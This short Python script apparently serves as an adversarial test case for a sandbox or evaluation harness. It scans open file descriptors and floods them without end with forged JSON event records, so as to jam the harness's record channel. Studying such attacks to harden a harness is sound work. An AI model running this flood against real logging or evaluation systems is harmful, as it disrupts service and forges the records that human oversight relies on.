# attack: fill the records until nobody can take them
# want: output or report
# limits: wall_ms=20000 cpu_s=10

import os
line = b'E{"event":"expr","probe":1,"expr":1,"turn":1,"stdout":{"start":0,"end":0}}\n' * 1000
fds = []
for fd in range(3, 3000):
    try:
        os.write(fd, b"\n")
        fds.append(fd)
    except OSError:
        pass
while True:
    for fd in fds:
        os.write(fd, line)
